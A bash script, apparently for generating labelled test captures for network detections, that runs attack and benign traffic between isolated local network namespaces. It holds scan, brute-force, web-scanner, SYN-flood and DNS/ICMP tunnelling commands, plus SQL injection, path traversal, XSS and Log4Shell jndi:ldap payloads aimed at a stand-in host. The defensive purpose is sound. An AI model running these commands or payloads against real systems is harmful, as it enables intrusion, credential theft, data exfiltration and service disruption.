#!/bin/bash
# make-report.sh attacks|tools|benign OUT: records what the detections are measured on, from real servers, clients and
# tools in network namespaces of this machine (nothing leaves it): inside 10.77.0.0/24, outside the networks of
# documentation (RFC 5737).
#
# Needs root and, from Debian: apache2 openssh-server openssh-client sshpass bind9 bind9-dnsutils curl nmap hydra
# medusa ncrack gobuster wapiti ptunnel iodine hping3 vsftpd rsyslog tcpdump iproute2 iputils-ping ethtool openssl python3 zstd.
set -eu
if [ "${NETLOG_OWN_MOUNTS:-}" != 1 ]; then NETLOG_OWN_MOUNTS=1 exec unshare -m "$0" "$@"; fi
what=${1:?usage: make-report.sh attacks|tools|benign OUT} out=$(realpath "${2:?usage: make-report.sh attacks|tools|benign OUT}")
here=$(dirname "$(realpath "$0")")
work=$(mktemp -d /tmp/netlog-report.XXXXXX); chmod 755 "$work"
IN=nlr-in-$what OUT=nlr-out-$what
SERVER=10.77.0.10 DESK=10.77.0.20
EVIL=203.0.113.66 FAR=203.0.113.5
VISITORS="198.51.100.1 198.51.100.2 198.51.100.3 198.51.100.4 198.51.100.5 198.51.100.6"

cleanup() {
  set +e
  for pid in "$work"/*.pid; do [ -f "$pid" ] && kill "$(cat "$pid")" 2>/dev/null; done
  for ns in $IN $OUT; do ip netns pids $ns 2>/dev/null | xargs -r kill 2>/dev/null; done
  sleep 0.5
  ip netns del $IN; ip netns del $OUT
  for u in nlrdeploy nlralice; do userdel -r $u 2>/dev/null; done
  rm -rf "$work"
}
trap cleanup EXIT

inside() { ip netns exec $IN "$@"; }
outside() { ip netns exec $OUT "$@"; }
as() { local from=$1; shift; outside ip route replace $SERVER/32 dev eth0 src "$from"; outside "$@"; }

network() {
  ip netns add $IN; ip netns add $OUT
  ip link add eth0 netns $IN type veth peer name eth0 netns $OUT
  inside ip link set lo up; outside ip link set lo up
  for a in $SERVER $DESK; do inside ip addr add $a/24 dev eth0; done
  for a in $EVIL $FAR $VISITORS; do outside ip addr add $a/24 dev eth0; done
  inside ip link set eth0 up; outside ip link set eth0 up
  inside ip route add default dev eth0; outside ip route add 10.77.0.0/24 dev eth0
  inside ethtool -K eth0 tx off tso off gso off gro off >/dev/null 2>&1 || true
  outside ethtool -K eth0 tx off tso off gso off gro off >/dev/null 2>&1 || true
}

servers() {
  cat > "$work/rsyslog.conf" <<CONF
module(load="imuxsock" SysSock.Name="$work/devlog" SysSock.Use="on" SysSock.RateLimit.Interval="0")
global(workDirectory="$work")
\$ActionFileDefaultTemplate RSYSLOG_FileFormat
auth,authpriv.* $work/auth.log
CONF
  rsyslogd -n -f "$work/rsyslog.conf" -i "$work/rsyslog.pid" & sleep 1
  [ -e /dev/log ] || ln -s "$work/devlog" /dev/log
  mount --bind "$work/devlog" /dev/log
  mkdir -p /run/sshd /var/run/vsftpd/empty
  ssh-keygen -q -t ed25519 -N '' -f "$work/host_key"
  useradd -m -s /bin/bash nlrdeploy; echo 'nlrdeploy:summer2024' | chpasswd
  useradd -m -s /bin/bash nlralice; echo 'nlralice:correct horse battery' | chpasswd
  inside /usr/sbin/sshd -f /dev/null -h "$work/host_key" -o ListenAddress=$SERVER -o UsePAM=yes -o UseDNS=no \
    -o PasswordAuthentication=yes -o MaxStartups=100 -o PidFile="$work/sshd.pid"
  mkdir -p "$work/www/docs" "$work/www/private" "$work/apache" "$work/named"
  for page in index about docs/one docs/two docs/three; do echo "<html><h1>$page</h1></html>" > "$work/www/$page.html"; done
  head -c 30000 /dev/zero | tr '\0' 'x' > "$work/www/large.txt"
  printf 'admin:%s\n' "$(openssl passwd -apr1 tulip77)" > "$work/htpasswd"
  cat > "$work/apache.conf" <<CONF
ServerName www.example.org
PidFile $work/apache.pid
ErrorLog $work/error.log
$(for m in mpm_event authn_core authn_file auth_basic authz_core authz_user dir mime; do
    echo "LoadModule ${m}_module /usr/lib/apache2/modules/mod_$m.so"; done)
TypesConfig /etc/mime.types
LogFormat "%h %l %u %t \"%r\" %>s %O \"%{Referer}i\" \"%{User-Agent}i\"" combined
CustomLog $work/access.log combined
Listen $SERVER:80
User www-data
Group www-data
DocumentRoot $work/www
<Directory $work/www>
  Require all granted
</Directory>
<Directory $work/www/private>
  AuthType Basic
  AuthName private
  AuthUserFile $work/htpasswd
  Require valid-user
</Directory>
CONF
  echo secret > "$work/www/private/index.html"
  inside /usr/sbin/apache2 -f "$work/apache.conf" -k start
  chown bind "$work/named"
  cat > "$work/named/zone" <<CONF
\$TTL 300
@ SOA ns hostmaster 1 3600 600 86400 60
@ NS ns
@ MX 10 mail
ns A $SERVER
www A $SERVER
mail A $SERVER
CONF
  cat > "$work/named/named.conf" <<CONF
options { directory "$work/named"; listen-on { $SERVER; }; listen-on-v6 { none; }; recursion no;
          pid-file "$work/named/named.pid"; };
zone "example.org" { type primary; file "zone"; };
CONF
  inside /usr/sbin/named -u bind -c "$work/named/named.conf"
  printf '%s\n' listen=YES listen_address=$SERVER local_enable=YES background=NO xferlog_enable=NO \
    max_login_fails=3 delay_failed_login=0 isolate=NO isolate_network=NO seccomp_sandbox=NO > "$work/vsftpd.conf"
  inside /usr/sbin/vsftpd "$work/vsftpd.conf" >/dev/null 2>&1 & echo $! > "$work/vsftpd.pid"
  # What a workstation calls outside.
  outside python3 -m http.server --bind $FAR --directory "$work/www" 8080 >/dev/null 2>&1 & echo $! > "$work/far.pid"
  sleep 2
}

page() { # FROM PATH...
  local from=$1; shift
  for p in "$@"; do
    outside curl -s -o /dev/null --path-as-is --interface "$from" -A "${AGENT:-Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0}" \
      --resolve www.example.org:80:$SERVER "http://www.example.org$p" || true
  done
}

ssh_as() { # FROM USER PASSWORD COMMAND
  as "$1" sshpass -p "$3" ssh -b "$1" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
    -o NumberOfPasswordPrompts=1 -o PubkeyAuthentication=no "$2@$SERVER" "$4" >/dev/null 2>&1 || true
}

beacon() { for i in $(seq 20); do inside curl -s -o /dev/null --interface $DESK http://$FAR:8080/about.html; sleep 5.2; done; }

attacks() {
  beacon & beacon=$!
  step() { echo "$(date -u +%FT%T.%NZ) $1" >> "$work/steps"; }
  step scan.vertical;      as $EVIL nmap -n -Pn -S $EVIL -e eth0 -sS --top-ports 150 --max-retries 1 $SERVER >/dev/null
  step scan.stealth;       as $EVIL nmap -n -Pn -S $EVIL -e eth0 -sN -p 20-40 --max-retries 0 $SERVER >/dev/null
  printf '%s\n' 123456 password admin letmein qwerty root toor changeme welcome monkey dragon summer2024 > "$work/words"
  printf '%s\n' root admin test oracle nlrdeploy > "$work/names"
  step login.bruteforce;   as 203.0.113.66 hydra -q -I -t 4 -l nlrdeploy -P "$work/words" ssh://$SERVER >/dev/null 2>&1 || true
  step login.success_after_failures; ssh_as $EVIL nlrdeploy summer2024 'id'
  step login.ftp;          as 198.51.100.6 medusa -h $SERVER -U "$work/names" -P "$work/words" -M ftp -t 2 >/dev/null 2>&1 || true
  step web.refused;        as 198.51.100.5 hydra -q -I -t 2 -l admin -P "$work/words" -m /private/ http-get://$SERVER >/dev/null 2>&1 || true
  for i in $(seq 120); do printf '%s\n' "hidden$i"; done > "$work/paths"
  step web.hidden_paths;   as 198.51.100.4 gobuster dir -q -u http://$SERVER/ -w "$work/paths" -t 2 >/dev/null 2>&1 || true
  step web.attacks
  for i in 1 2 3; do
    page $EVIL "/index.php?id=1%27%20OR%20%271%27=%271" "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd" "/shell.php?cmd=id" \
      "/?q=%3Cscript%3Ealert(1)%3C/script%3E" "/?x=\$%7Bjndi:ldap://203.0.113.5/a%7D"
  done
  step icmp.tunnel;        head -c 4000 /dev/urandom > "$work/loot"
  inside hping3 -q -1 -a $DESK -I eth0 -c 40 -i u100000 -d 100 -E "$work/loot" $FAR >/dev/null 2>&1 || true
  step dns.tunnel
  outside iodined -f -c -P secret 172.31.77.1 t.example.net -l $FAR >/dev/null 2>&1 & echo $! > "$work/iodined.pid"
  sleep 1
  inside iodine -f -r -P secret -T TXT $FAR t.example.net >/dev/null 2>&1 & echo $! > "$work/iodine.pid"
  sleep 6; inside ping -q -c 30 -i 0.2 -s 200 172.31.77.1 >/dev/null 2>&1 || true
  step flood.syn;          outside hping3 -q -S -p 80 -c 1100 -i u2000 --rand-source -I eth0 $SERVER >/dev/null 2>&1 || true
  step end
  wait $beacon
}

tools() { # programs that do a whole attack by themselves
  step() { echo "$(date -u +%FT%T.%NZ) $1" >> "$work/steps"; }
  printf '%s\n' 123456 password admin letmein qwerty root toor changeme welcome monkey dragon summer2024 > "$work/words"
  step web.scanner
  # A form that takes everything: programs attack what they find parameters of.
  echo '<html><form action="about.html"><input name="q"><input name="file" value="a.txt"></form></html>' > "$work/www/index.html"
  as 198.51.100.4 wapiti -u http://$SERVER/ -m backup,exec,file,htaccess,sql,xss --max-scan-time 60 --flush-session --store-session "$work/wapiti" -o "$work/wapiti.txt" -f txt >/dev/null 2>&1 || true
  step login.bruteforce
  as 198.51.100.5 ncrack -T4 --user nlrdeploy -P "$work/words" ssh://$SERVER >/dev/null 2>&1 || true
  # A download through pings: the far end asks its web server for the near one.
  step icmp.tunnel
  outside ip route del $SERVER/32
  outside sysctl -qw net.ipv4.icmp_echo_ignore_all=1
  outside ptunnel >/dev/null 2>&1 & echo $! > "$work/ptunnel-far.pid"
  inside ptunnel -p $FAR -lp 8000 -da $FAR -dp 8080 >/dev/null 2>&1 & echo $! > "$work/ptunnel.pid"
  sleep 2
  for page in about.html docs/one.html large.txt; do inside curl -s -m 20 -o /dev/null "http://127.0.0.1:8000/$page" || true; done
  sleep 1
  step end
}

benign() { # the calm hour, ten times as fast
  local end=$(($(date +%s) + 360)) n=0
  while [ "$(date +%s)" -lt $end ]; do
    n=$((n + 1))
    for v in $VISITORS; do
      [ $((RANDOM % 3)) = 0 ] || continue
      outside dig +short -b "$v" @$SERVER www.example.org A >/dev/null
      page "$v" / /about.html "/docs/$(shuf -n1 -e one two three).html"
      [ $((RANDOM % 4)) = 0 ] && page "$v" /favicon.ico /large.txt
      sleep 0.$((RANDOM % 10))
    done
    inside ping -q -c 2 -i 0.3 $FAR >/dev/null
    [ $((n % 5)) = 0 ] && ssh_as 198.51.100.1 nlralice 'correct horse battery' uptime
    [ $((n % 11)) = 3 ] && { ssh_as 198.51.100.2 nlralice 'correct hose battery' uptime; ssh_as 198.51.100.2 nlralice 'correct horse battery' uptime; }
    [ $((n % 7)) = 0 ] && outside dig +short -b 198.51.100.3 @$SERVER nosuch.example.org >/dev/null
    [ $((n % 6)) = 0 ] && inside curl -s -o /dev/null --interface $DESK http://$FAR:8080/docs/two.html
    # Time synchronisation, as a client of SNTP sends it, and its answer.
    inside python3 "$here/sntp.py" $DESK $FAR || true
    python3 - "$work/shop.log" $n <<'PY'
import json, random, sys, time
path, n = sys.argv[1], int(sys.argv[2])
random.seed(n)
with open(path, "a") as out:
    for i in range(8):
        bad = (n * 8 + i) % 60 == 59
        line = {"level": 50 if bad else 30, "time": int(time.time() * 1000), "pid": 7, "hostname": "web", "name": "shop",
                "msg": "payment provider did not answer" if bad else "request completed",
                "req": {"method": "GET", "url": f"/api/items/{random.randrange(40)}", "remoteAddress": f"198.51.100.{1 + i % 6}"},
                "res": {"statusCode": 502 if bad else random.choice([200, 200, 200, 304, 404])}, "responseTime": random.randrange(3, 90)}
        out.write(json.dumps(line) + "\n")
PY
    sleep 3
  done
}

network; servers
[ $what = benign ] && { outside python3 "$here/sntp.py" serve $FAR & echo $! > "$work/sntp.pid"; }
inside tcpdump -q -i eth0 -s 0 -U -w "$work/capture.pcap" 'ip' 2>/dev/null & echo $! > "$work/tcpdump.pid"
sleep 1; "$what"; sleep 2
kill -INT "$(cat "$work/tcpdump.pid")"; sleep 1; rm "$work/tcpdump.pid"
mkdir -p "$out"
for f in capture.pcap auth.log access.log steps shop.log; do
  [ -f "$work/$f" ] || continue
  if [ $what = benign ]; then python3 "$here/stretch.py" 10 "$work/$f" "$out/$f"; else cp "$work/$f" "$out/$f"; fi
done
sed -i "s/^\([^ ]* \)$(hostname) /\1web /" "$out/auth.log"
zstd -19 -q --rm -f "$out/capture.pcap" -o "$out/capture.pcap.zst"
